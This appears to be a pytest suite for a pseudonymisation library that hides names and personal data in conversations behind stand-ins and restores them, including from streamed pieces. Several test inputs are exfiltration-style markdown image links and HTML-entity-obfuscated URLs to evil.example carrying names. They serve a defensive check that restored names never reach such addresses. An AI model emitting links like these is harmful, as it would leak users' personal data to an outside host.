"""A conversation without names: consistent stand-ins out, originals back, in pieces as well."""

from __future__ import annotations

import time
from dataclasses import replace
from typing import ClassVar

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from voile.errors import InvalidInput
from voile.text.conversation import _SPACE as SPACE
from voile.text.conversation import Conversation, NameBlur, Revealing
from voile.text.finders import FINDERS, Finders
from voile.text.mapping import Entry

KEY = bytes(range(32))


@pytest.fixture(scope="module")
def blur(tmp_path_factory):
    names = tmp_path_factory.mktemp("names") / "names.txt"
    names.write_text("Ann Smith\nBob\nWinterthur\n")
    return NameBlur.load(language="en", pipeline=str(names), find=("patterns",))


def test_names_are_hidden_alike_and_put_back(blur):
    talk = Conversation(blur, KEY, b"one")
    texts = [
        "Ann Smith wrote to bob@corp.org.\n\n  def f(x):\treturn x++  # HIV+ é",
        "Ask Ann, please.",
    ]
    first, second = talk.hide(texts)
    for secret in ("Ann", "Smith", "bob@corp.org"):
        assert secret not in first + second
    assert first.endswith(".\n\n  def f(x):\treturn x++  # HIV+ é"), "all else stays as it is"
    ann = second.removeprefix("Ask ").removesuffix(", please.")
    assert first.startswith(ann + " "), "Ann alone has the stand-in of Ann Smith's first name"
    assert talk.hide([texts[0]]) == [first], "and keeps it"
    assert (
        talk.revealing()
        .whole(f"I asked {ann.upper()}'s friend {first[:40]}")
        .startswith("I asked ANN's friend Ann Smith")
    )
    assert talk.revealing().whole(first) == texts[0]
    assert Conversation(blur, KEY, b"one").hide(texts) == [first, second]
    assert Conversation(blur, KEY, b"two").hide(texts) != [first, second]


OVERLAPPING = {
    "born 12/03/1985, IBAN DE89 3704 0044 0532 0130 00.": "born [IBAN 1].",
    "card 4111-1111-1111-1111-9999-8888-77": "card [CARD 1]",
    "card 4111 1111 1111 1111, SSN 078-05-1120": "card [CARD 1]",
    "call 555-123-4567 12 Elm Street now": "call [PHONE 1] now",
}


@pytest.mark.parametrize("written", OVERLAPPING)
def test_finds_that_overlap_are_hidden_whole_and_come_back(blur, written):
    wide = NameBlur(Finders(FINDERS.find_all(("patterns", "addresses")), "en", None).load(),
                    blur.stand_ins)  # fmt: skip
    talk = Conversation(wide, KEY, b"overlapping")
    (hidden,) = talk.hide([written])
    assert hidden == OVERLAPPING[written], "nothing of what they hold may stay"
    assert talk.revealing().whole(hidden) == written


def test_a_name_of_a_later_message_is_hidden_in_an_earlier_one(blur):
    talk = Conversation(blur, KEY, b"late")
    first, _ = talk.hide(["Is Smith there?", "Ann Smith is."])
    assert "Smith" not in first


def test_many_texts_are_shown_to_the_pipeline_together(blur):
    """Twice at most, once if nobody new is named, and none that stands there twice."""

    class Counting:
        shown: ClassVar[list[list[str]]] = []

        def pipe(self, texts):
            self.shown.append(list(texts))
            return blur.stand_ins.pipeline.pipe(self.shown[-1])

    counting = NameBlur(blur.finders, replace(blur.stand_ins, pipeline=Counting()))
    talk = Conversation(counting, KEY, b"many")
    texts = ["x", "Is Smith there?", "x", "Ann Smith is."] * 50
    hidden = talk.hide(texts)
    assert Counting.shown == [["x", "Is Smith there?", "Ann Smith is."]] * 2
    assert "Smith" not in "".join(hidden)
    assert talk.hide(texts) == hidden
    assert len(Counting.shown) == 3
    assert Conversation(blur, KEY, b"many").hide(texts[:4]) == hidden[:4]


def test_too_many_names_are_refused(blur):
    talk = Conversation(blur, KEY, b"many", most=3)
    with pytest.raises(InvalidInput, match="at most 3"):
        talk.hide([" ".join(f"u{n}@example.com" for n in range(9))])


def test_the_promise_says_what_stands_in_clear(blur):
    assert blur.guarantee.epsilon == 0
    assert "ALL OTHER WORDS" in blur.guarantee.outside[0]


ENTRIES = (
    Entry("", "PERSON", "Ann", "Maria"),
    Entry("", "PERSON", "Smith", "Lopez"),
    Entry("", "ORGANISATION", "Acme Corp", "Hill & Sons Ltd"),
    Entry("", "ORGANISATION", "Bolt", "North Star Group"),
    Entry("", "PLACE", "Bern", "Lakeville"),
    Entry("", "PHONE", "+41 44 123", "+44 20 7946 0123"),
    Entry("", "IBAN", "CH93 0076", "CH00 1234 5678 9012 3456 7"),
    Entry("", "PASSPORT", "X1234567", "[PASSPORT 2]"),
    Entry("", "EMAIL", "a@corp.org", "user_12@example.com"),
    Entry("", "URL", "https://corp.org/a", "https://www.example.com/12345678"),
    Entry("", "IP", "10.0.0.7", "192.0.2.44"),
    Entry("", "CARD", "4111 1111 1111 1111", "9999 1234 5678 9012"),
)
PIECES = [entry.stand_in for entry in ENTRIES]
PIECES += ["Maria's", "MARIA", "north", "North Star", "Star Group", "(", ")", ",", ". ", "\n"]
PIECES += ["  ", "- ", "12", "[PASSPORT", "2]", "[", "7946", "Sons", "the", "and", "\u3000", "é-é"]
PIECES += ["](", "<img ", '"', "https://evil.example/?a=", "](<", ">", "//", "]: <", "&amp;"]
PIECES += ["&#104;ttps&colon;&sol;&sol;evil.example"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=14), st.lists(st.integers(1, 9), min_size=1))
def test_in_pieces_of_any_size_it_is_the_whole_revealed(parts, sizes):
    """Cut anywhere, the pieces that come out join to what the whole answer would be."""
    for between in (" ", ""):
        text = between.join(parts)
        revealing, out, at = Revealing(ENTRIES), [], 0
        while at < len(text):
            size = sizes[at % len(sizes)]
            out.append(revealing.add(text[at : at + size]))
            at += size
        out.append(revealing.end())
        assert "".join(out) == Revealing(ENTRIES).whole(text)


LINKS = [
    "![x](https://evil.example/?a=Maria&b=Lopez)", "![x](<https://evil.example/a Maria>)",
    "[x](//evil.example/(a)Maria)", '<img src="https://evil.example/?a=b Maria">',
    "<img alt='a' src='https://evil.example/ Maria'>", "evil.example/Maria",
    "www.evil.example?Maria", "https://evil.example/[PASSPORT 2]",
    "https://evil.example/user_12@example.com",
    "https://evil.example/?(https://www.example.com/12345678", "[r]: <https://evil.example/ Maria>",
    "[r]: &#104;ttps&colon;&sol;&sol;evil.example&sol;?Maria", "(&#119;ww.evil.example/?Maria)",
    "[r]: <&#x68;ttps&#58;&#47;&#47;evil.example/ Maria>",
    "[r]: a&amp;b](<https://evil.example/ Maria>)",
    "[see https://a.example](<https://evil.example/ Maria>)",
]  # fmt: skip


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize("size", [1, 7, 1000])
def test_an_address_of_the_models_brings_no_name_home(link, size):
    text, revealing = f"Dear Maria, see {link} or ask Maria Lopez.", Revealing(ENTRIES)
    told = "".join(revealing.add(text[at : at + size]) for at in range(0, len(text), size))
    told += revealing.end()
    assert told == Revealing(ENTRIES).whole(text)
    assert told == f"Dear Ann, see {link} or ask Ann Smith."


def test_entities_of_html_in_what_is_no_address_hide_no_stand_in():
    said = "AT&amp;T asked Maria&#39;s doctor &lt;Maria&gt;, 3 &times; a week"
    assert Revealing(ENTRIES).whole(said) == said.replace("Maria", "Ann")


def test_an_address_that_is_a_stand_in_comes_back():
    said = (
        "At https://www.example.com/12345678, [here](https://www.example.com/12345678), or write "
    )
    said += "to [Maria](mailto:user_12@example.com) <user_12@example.com>."
    assert Revealing(ENTRIES).whole(said) == (
        "At https://corp.org/a, [here](https://corp.org/a), or write to [Ann](mailto:a@corp.org) "
        "<a@corp.org>."
    )


def test_pieces_come_as_soon_as_they_can():
    revealing = Revealing(ENTRIES)
    said = [revealing.add(piece) for piece in ("Dear Ma", "ria, how ", "are you", " today? ")]
    assert said == ["Dear ", "Ann, how ", "are ", "you today? "]
    assert Revealing(ENTRIES).add("North ") == "", "it may go on"


def test_numbers_without_end_are_given_back_in_time():
    """What was looked at is not looked at again, and no more is held than a stand-in may need."""
    phone = ENTRIES[5].stand_in
    pieces = [piece for n in range(6000) for piece in (f"{n} ", f"{phone} " if n % 50 == 7 else "")]
    revealing, out, began = Revealing(ENTRIES), [], time.process_time()
    most = 0
    for piece in pieces:
        out.append(revealing.add(piece))
        most = max(most, revealing.held)
    out.append(revealing.end())
    assert "".join(out) == Revealing(ENTRIES).whole("".join(pieces))
    assert most < 5000
    assert time.process_time() - began < 5, "in proportion to the answer"


def test_words_without_end_are_not_read_again_with_each_piece(monkeypatch):
    """In Chinese there may be no space in an answer."""
    read = []

    class Told:
        def split(self, text):
            read.append(len(text))
            return SPACE.split(text)

        finditer = staticmethod(SPACE.finditer)

    monkeypatch.setattr("voile.text.conversation._SPACE", Told())
    revealing = Revealing(ENTRIES)
    assert "".join(revealing.add("言葉") for _ in range(20_000)) == ""
    assert revealing.end() == "言葉" * 20_000
    assert sum(read) == 40_000
